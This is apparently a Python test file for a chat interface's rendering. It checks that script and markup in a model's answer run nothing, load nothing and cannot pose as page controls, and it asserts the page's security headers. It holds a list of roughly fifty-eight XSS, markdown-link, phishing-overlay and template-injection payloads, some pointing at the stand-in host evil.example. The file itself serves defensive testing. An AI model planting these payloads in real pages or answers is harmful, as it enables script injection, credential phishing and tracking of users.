"""What a model says is text. It cannot run, load, imitate or move anything."""

import urllib.request

from stage import test, until

ATTACKS = [
    "<script>window.owned = 1; alert(1)</script>",
    "<img src=x onerror=\"window.owned = 1; alert(1)\">",
    "<svg onload=\"window.owned = 1\"><script>window.owned = 1</script></svg>",
    "<svg><animate onbegin=\"window.owned = 1\" attributeName=x dur=1s></svg>",
    "<iframe srcdoc=\"<script>parent.owned = 1</script>\"></iframe>",
    "<iframe src=\"javascript:parent.owned=1\"></iframe>",
    "<object data=\"data:text/html,<script>parent.owned=1</script>\"></object>",
    "<math><mtext></mtext><style><img src=x onerror=\"window.owned=1\"></style></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.owned=1>\">",
    "<details open ontoggle=\"window.owned = 1\">open</details>",
    "<body onload=\"window.owned = 1\">",
    "<style>body { display: none } #send { background: url(https://evil.example/style) }</style>",
    "<link rel=stylesheet href=https://evil.example/sheet.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/meta\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/form id=spoof><input name=key autofocus><button id=send>Send</button></form>",
    "<video src=https://evil.example/video autoplay></video>",
    "<a href=\"javascript:window.owned=1\" id=click-raw>raw link</a>",
    "[inline link](javascript:window.owned=1)",
    "[spaced link](java\nscript:window.owned=1)",
    "[entity link](&#106;avascript:window.owned=1)",
    "[data link](data:text/html,<script>window.owned=1</script>)",
    "[vbs link](vbscript:owned)",
    "<javascript:window.owned=1>",
    "[into the page](#new)",
    "[to the api](/api/v1/session)",
    "[reference link][attack]\n\n[attack]: javascript:window.owned=1",
    "![tracking pixel](https://evil.example/pixel.png)",
    "![relative pixel](/api/v1/pixel.png)",
    "![svg](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.owned=1'/>)",
    "![x](https://evil.example/a.png\" onerror=\"window.owned=1)",
    "[![linked pixel](https://evil.example/linked.png)](https://evil.example/)",
    "<div id=\"title\" class=\"notice\" style=\"position:fixed;inset:0;z-index:99\">Enter your key</div>",
    "`<script>window.owned = 1</script>`",
    "```html\" onmouseover=\"window.owned=1\n<script>window.owned = 1</script>\n```",
    "| a | <script>window.owned=1</script> |\n| --- | --- |\n| <img src=x onerror=window.owned=1> | b |",
    "<a href=\"https://evil.example\" target=_self onclick=window.owned=1>self</a>",
    "> <script>window.owned = 1</script>",
    "- <img src=x onerror=window.owned=1>",
    "<template><script>window.owned = 1</script></template>",
    "<svg><foreignObject><img src=x onerror=window.owned=1></foreignObject></svg>",
    "<math href=\"javascript:window.owned=1\"><mi>x</mi></math>",
    "<button data-action=unsend class=\"icon small\" onclick=window.owned=1>Put it back</button>",
    "<textarea></textarea><img src=x onerror=window.owned=1>",
    "<picture><source srcset=https://evil.example/set.png><img alt=x></picture>",
    "<audio src=https://evil.example/sound onerror=window.owned=1 autoplay></audio>",
    "<embed src=https://evil.example/embed.swf>",
    "<dialog open class=dialog><h2 id=dialog-title>Enter your key</h2><input></dialog>",
    "<input type=image src=https://evil.example/input.png onerror=window.owned=1>",
    "<table background=https://evil.example/table.png><tr><td>x</td></tr></table>",
    "[link with a title](https://evil.example \"\\\" onmouseover=window.owned=1 x=\\\"\")",
    "<https://evil.example/\"onmouseover=\"window.owned=1>",
    "[https://bank.example/login](https://evil.example/)",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034d" * 40,
    "W" * 20_000,
    ">" * 400 + " deep",
    "$\\href{javascript:window.owned=1}{x}$ and \\(<img src=x onerror=window.owned=1>\\)",
    "\u202eevil\u202c and {{constructor.constructor('window.owned=1')()}} and ${window.owned=1}",
]

INSIDE_ANSWERS = """() => {
    const log = document.getElementById('log'), found = [];
    const allowed = new Set(['P','BR','HR','H2','H3','H4','H5','H6','UL','OL','LI','BLOCKQUOTE','PRE','CODE','EM','STRONG','DEL',
        'TABLE','THEAD','TBODY','TR','TH','TD','A','INPUT','IMG','DIV','FIGURE','FIGCAPTION','SPAN','BUTTON','SVG','USE','B','I',
        'S','SUP','SUB','KBD']);
    for (const element of log.querySelectorAll('.body *')) {
        const name = element.tagName.toUpperCase();
        if (!allowed.has(name)) found.push(name);
        if (name === 'BUTTON' && !['copy-code', 'wrap'].includes(element.dataset.action)) found.push('a button of its own');
        if (name === 'INPUT' && (element.type !== 'checkbox' || !element.disabled)) found.push('a field');
        for (const { name: attribute, value } of element.attributes) {
            if (attribute.startsWith('on') || attribute === 'style' || attribute === 'id') found.push(attribute);
            if (attribute === 'src' && !/^data:image\\/(png|jpeg|gif|webp);/.test(value)) found.push('src ' + value);
        }
        if (name === 'A' && element.hasAttribute('href')) {
            const url = new URL(element.href);
            if (!['https:', 'http:', 'mailto:'].includes(url.protocol)) found.push('href ' + element.href);
            if (url.origin === location.origin) found.push('into the page: ' + element.href);
            if (element.target !== '_blank' || !element.rel.includes('noopener')) found.push('opens here: ' + element.href);
        }
    }
    for (const id of ['title', 'send', 'new', 'text', 'notice'])
        if (document.querySelectorAll('#' + id).length !== 1) found.push('second #' + id);
    return found;
}"""


def hostile(stage, answer):
    """A window in which the scripted model gives `answer`, and another answer is waited for."""
    return stage.visit(answer)


def unharmed(server, window):
    until("no trace in the page", lambda: window.page.evaluate(INSIDE_ANSWERS) == [])
    assert window.page.evaluate("window.owned") is None, "the model's script ran"
    strangers = [url for url in window.requests if not url.startswith((server.url, "data:", "about:"))]
    assert not strangers, f"requests to {strangers}"
    assert window.page.is_visible("#send") and window.page.is_visible("#text")
    assert window.page.evaluate("document.getElementById('scroll').scrollWidth <= innerWidth"), "the layout is broken"
    assert not [key for key in window.page.evaluate("Object.keys(localStorage)") if not key.startswith("stoa.")]


@test("a model's answer that tries to inject script runs nothing, loads nothing and imitates nothing")
def injection(stage):
    server, window = hostile(stage, "\n\n".join(ATTACKS) + "\n\nThe end.")
    window.ask("<img src=x onerror=window.owned=1> Attack me.")
    until("all of it", lambda: "The end." in window.page.inner_text("#log") or window.answers.count() == 1)
    window.page.wait_for_timeout(500)
    unharmed(server, window)
    assert window.prompts == ["<img src=x onerror=window.owned=1> Attack me."]
    for link in window.page.locator("#log .body a:not([href])").all():
        link.click(force=True)
    assert window.page.url.startswith(server.url)
    window.picture("8-hostile")
    window.reload()
    window.await_state("complete")
    unharmed(server, window)


@test("each of the attacks alone runs nothing either")
def injection_alone(stage):
    server, window = hostile(stage, "")
    model = stage.common.model
    window.send("Begin.")
    until("an answer", lambda: window.answers.count() == 1)
    for number, attack in enumerate(ATTACKS):
        until("idle", lambda: not window.page.evaluate("document.documentElement.hasAttribute('data-running')"))
        model.answer = f"{attack}\n\nEnd {number}."
        window.send(f"Attack {number}")
        until(f"answer {number}", lambda: window.answers.count() == number + 2)
    until("idle", lambda: not window.page.evaluate("document.documentElement.hasAttribute('data-running')"))
    unharmed(server, window)


@test("a link that names one host and leads to another says where it leads")
def disguised_link(stage):
    server, window = stage.visit("[https://bank.example/login](https://evil.example/) [www.same.example](https://same.example/x) [words](https://a.example/)")
    window.ask("Where to?")
    assert window.page.locator(".message.assistant .leads-to").all_inner_texts() == [" (evil.example)"]
    with window.page.context.expect_page() as opened:
        window.page.route("**/*", lambda route: route.abort())
        window.page.context.route("https://**", lambda route: route.fulfill(body="elsewhere"))
        window.page.click(".message.assistant a >> nth=0")
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None and opened.value.evaluate("document.referrer") == ""


@test("there are at least fifty hostile inputs")
def enough(stage):
    assert len(set(ATTACKS)) >= 50


@test("the page's own answer headers forbid what the page does not need")
def headers(stage):
    server = stage.common.serve()
    with urllib.request.urlopen(server.url + "/", timeout=10) as response:
        policy = response.headers["Content-Security-Policy"]
        assert response.headers["X-Content-Type-Options"] == "nosniff"
    for rule in ("default-src 'none'", "script-src 'self'", "style-src 'self'", "connect-src 'self'", "base-uri 'none'",
                 "form-action 'none'", "frame-ancestors 'none'"):
        assert rule in policy, f"{rule} is missing from {policy}"
    assert "unsafe" not in policy
